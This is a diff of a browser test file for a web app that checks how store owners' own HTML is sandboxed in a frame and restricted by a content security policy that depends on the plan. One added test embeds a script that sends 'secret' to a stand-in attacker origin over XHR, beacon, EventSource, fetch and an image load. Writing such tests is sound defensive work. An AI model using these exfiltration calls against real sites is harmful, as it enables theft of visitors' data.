@@ -13,6 +13,7 @@ import { aCategory, aLink, aProduct, aProject, aStore } from '../../test/builder
 import { openTestDeps, type TestDeps } from '../../test/open-test-deps.ts'
 import type { ProjectContext } from '../access/index.ts'
 import { openEdge } from '../edge/index.ts'
+import { setOrganizationSettings } from '../organizations/index.ts'
 import { closeServer, listen } from '../platform/http/listen.ts'
 import { updateStore } from '../stores/update-store.ts'
 
@@ -133,6 +134,47 @@ it.each(markupAttacks)('sends no visitor away by %j', async (snippet) => {
   expect(page.url()).toBe(address)
   expect(context.pages()).toHaveLength(2)
   expect(incidents.filter((incident) => !incident.startsWith('/frame'))).toEqual([])
+})
+
+it('shows the own HTML in its frame, and the store where its address is opened as a tab', async () => {
+  await ownStore('<p>Sign in to 127.0.0.1</p>')
+  await using visitor = await openVisitor()
+  const { context, page } = visitor
+  const store = page.url()
+  await page.locator('iframe').scrollIntoViewIfNeeded()
+  await page.frameLocator('iframe').getByText('Sign in to').waitFor()
+
+  const tab = await context.newPage()
+  await tab.goto(`${store}/snippet`)
+  expect(tab.url()).toBe(store)
+  await tab.frameLocator('iframe').getByText('Sign in to').waitFor()
+  await page.goto(`${app}/opener`)
+  await page.setContent(`<a href="${store}/snippet">Sign in</a>`)
+  await page.getByText('Sign in').click()
+  await page.waitForURL(store)
+})
+
+it("lets the own HTML of a Free plan load pictures and send nothing by script, and a paid plan's connect", async () => {
+  const url = (path: string) => JSON.stringify(`${attackerOrigin}/${path}`)
+  await ownStore(`<script>
+    const xhr = new XMLHttpRequest(); xhr.open('POST', ${url('xhr')}); xhr.send('secret')
+    navigator.sendBeacon(${url('beacon')}, 'secret')
+    new EventSource(${url('events')})
+    fetch(${url('fetch')}, { method: 'POST', mode: 'no-cors', body: 'secret' }).catch(() => {}).then(() => { new Image().src = ${url('picture')} })
+  </script>`)
+  await using free = await openVisitor()
+  await free.page.locator('iframe').scrollIntoViewIfNeeded()
+  await expect.poll(() => free.incidents).toContain('/picture')
+  await free.page.waitForLoadState('networkidle')
+  expect(free.incidents).toEqual(['/picture'])
+
+  await setOrganizationSettings(deps, ctx.organization.id, ['package=Starter'])
+  const policy = async () => (await fetch(`http://127.0.0.1:${edge.port}/@lamps/snippet`)).headers.get('content-security-policy')
+  await expect.poll(policy).not.toContain('connect-src')
+  await using paid = await openVisitor()
+  await paid.page.locator('iframe').scrollIntoViewIfNeeded()
+  await expect.poll(() => paid.incidents).toEqual(expect.arrayContaining(['/xhr', '/beacon', '/events', '/fetch', '/picture']))
+  await setOrganizationSettings(deps, ctx.organization.id, ['package=Free'])
 })
 
 it('is framed by no other site, neither its pages nor its own HTML', async () => {
